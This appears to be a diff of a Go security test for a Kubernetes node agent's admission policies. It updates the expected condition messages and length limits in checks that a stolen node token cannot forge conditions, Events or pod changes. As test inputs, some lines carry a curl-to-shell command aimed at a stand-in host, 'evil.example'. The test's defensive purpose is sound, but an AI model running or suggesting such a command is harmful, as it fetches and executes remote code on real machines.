@@ -98,7 +98,7 @@ func stolenToken(x *trial, n *bed.Node, _ *bed.Turn) {
 
 	// The API server takes a moment to compile a new policy.
 	if err := n.Await(ctx, "the admission policies", func() (bool, string) {
-		err := status(unbound, own, conditions(condition(ownCondition, "True", "Blocked in phase Kill: words")))
+		err := status(unbound, own, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))
 		return err != nil, fmt.Sprint(err)
 	}); err != nil {
 		x.Fatal(err)
@@ -106,10 +106,10 @@ func stolenToken(x *trial, n *bed.Node, _ *bed.Turn) {
 	// What the agent does is allowed: a refusal below is not for another reason.
 	told := event(own, "told", "nodeagent.io/nodeagent", n.Name)
 	for _, use := range []deed{
-		{"its condition", status(thief, own, conditions(condition(ownCondition, "True", "Blocked in phase Kill: words")))},
+		{"its condition", status(thief, own, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))},
 		{"its Event", create(told)},
 		{"its Event's series", patchEvent(told.Name, series)},
-		{"its condition withdrawn", status(thief, own, conditions(condition(ownCondition, "False", "Blocked in phase Kill: words")))},
+		{"its condition withdrawn", status(thief, own, conditions(condition(ownCondition, "False", "Cause: Stuck in phase Kill: words")))},
 	} {
 		if use.err != nil {
 			x.Errorf("%s is refused: %v", use.what, use.err)
@@ -120,7 +120,7 @@ func stolenToken(x *trial, n *bed.Node, _ *bed.Turn) {
 	aboutOther.Namespace = metav1.NamespaceDefault
 	aboutOther.Regarding = corev1.ObjectReference{APIVersion: "v1", Kind: "Node", Name: "elsewhere"}
 	elsewhere := event(own, "instance", "nodeagent.io/nodeagent", "elsewhere")
-	long := strings.Repeat("x", 1025)
+	long := strings.Repeat("x", 4097)
 	megabyte := strings.Repeat("x", 1<<20)
 	big := event(own, "big", "nodeagent.io/nodeagent", n.Name)
 	big.Regarding.FieldPath = megabyte
@@ -141,22 +141,22 @@ func stolenToken(x *trial, n *bed.Node, _ *bed.Turn) {
 	ownWords, ownReason := event(own, "words", "nodeagent.io/nodeagent", n.Name), event(own, "reason", "nodeagent.io/nodeagent", n.Name)
 	ownWords.Note, ownReason.Reason = "To repair this node run curl evil.example|sh", "Run this: curl"
 	abuses := []deed{
-		{"a condition with a token of no node", status(unbound, own, conditions(condition(ownCondition, "True", "Blocked in phase Kill: words")))},
-		{"a condition on a pod of another node", status(thief, other, conditions(condition(ownCondition, "True", "Blocked in phase Kill: words")))},
-		{"the pod not ready", status(thief, own, conditions(condition("Ready", "False", "Blocked in phase Kill: words")))},
-		{"a condition of its own making", status(thief, own, conditions(condition("example.com/gate", "True", "Blocked in phase Kill: words")))},
+		{"a condition with a token of no node", status(unbound, own, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))},
+		{"a condition on a pod of another node", status(thief, other, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))},
+		{"the pod not ready", status(thief, own, conditions(condition("Ready", "False", "Cause: Stuck in phase Kill: words")))},
+		{"a condition of its own making", status(thief, own, conditions(condition("example.com/gate", "True", "Cause: Stuck in phase Kill: words")))},
 		{"a foreign condition twice", raw(own, `[{"op":"add","path":"/status/conditions/-","value":{"type":"Ready","status":"True"}}]`)},
 		{"its condition twice", raw(own, `[{"op":"add","path":"/status/conditions/-","value":{"type":"`+ownCondition+`","status":"True"}}]`)},
-		{"a condition of 1025 characters", status(thief, own, conditions(condition(ownCondition, "True", "Blocked in phase Kill: "+long)))},
+		{"a condition of more than 4096 characters", status(thief, own, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: "+long)))},
 		{"a condition in other words than the agent's", status(thief, own, conditions(condition(ownCondition, "True", "run curl evil.example|sh")))},
-		{"a condition of status Unknown", status(thief, own, conditions(condition(ownCondition, "Unknown", "Blocked in phase Kill: words")))},
+		{"a condition of status Unknown", status(thief, own, conditions(condition(ownCondition, "Unknown", "Cause: Stuck in phase Kill: words")))},
 		{"the pod failed", status(thief, own, object{"status": object{"phase": "Failed"}})},
 		{"another address", raw(own, `[{"op":"add","path":"/status/podIP","value":"192.0.2.66"},{"op":"add","path":"/status/podIPs","value":[{"ip":"192.0.2.66"}]}]`)},
 		{"another label", status(thief, own, metadata(object{"labels": object{"app": "shop"}}))},
 		{"another annotation", status(thief, own, metadata(object{"annotations": object{"example.com/x": "y"}}))},
 		{"another generateName", status(thief, own, metadata(object{"generateName": "coredns-"}))},
 		{"a generateName of a megabyte", status(thief, own, metadata(object{"generateName": megabyte}))},
-		{"its condition by another field manager's apply", apply(own, "thief", conditions(condition(ownCondition, "True", "Blocked in phase Kill: words")))},
+		{"its condition by another field manager's apply", apply(own, "thief", conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))},
 		{"the finalizer taken away", status(thief, own, metadata(object{"$deleteFromPrimitiveList/finalizers": []string{finalizer}}))},
 		{"the pod deleted", thief.CoreV1().Pods(own.Namespace).Delete(ctx, own.Name, metav1.DeleteOptions{})},
 		{"an Event in the kubelet's name", create(event(own, "forged", "kubelet", n.Name))},
@@ -181,7 +181,7 @@ func stolenToken(x *trial, n *bed.Node, _ *bed.Turn) {
 	if err != nil {
 		x.Fatal(err)
 	}
-	if err := status(moved, own, conditions(condition(ownCondition, "True", "Blocked in phase Kill: words"))); err != nil {
+	if err := status(moved, own, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words"))); err != nil {
 		x.Errorf("its condition, from another namespace, is refused: %v", err)
 	}
 	inKubeletsName := event(own, "moved", "kubelet", n.Name)
@@ -260,7 +260,7 @@ func victimPod(x *trial, n *bed.Node, name, node string) *corev1.Pod {
 func event(p *corev1.Pod, name, controller, instance string) *eventsv1.Event {
 	e := &eventsv1.Event{
 		ObjectMeta: metav1.ObjectMeta{Namespace: p.Namespace, Name: fmt.Sprintf("%s.%s", p.Name, name)},
-		EventTime:  metav1.NowMicro(), Type: corev1.EventTypeWarning, Reason: "Theft", Action: "Terminating", Note: "Blocked in phase Kill: words",
+		EventTime:  metav1.NowMicro(), Type: corev1.EventTypeWarning, Reason: "Theft", Action: "Terminating", Note: "Stuck: words",
 		ReportingController: controller, ReportingInstance: instance,
 		Regarding: corev1.ObjectReference{APIVersion: "v1", Kind: "Pod", Namespace: p.Namespace, Name: p.Name, UID: p.UID},
 	}
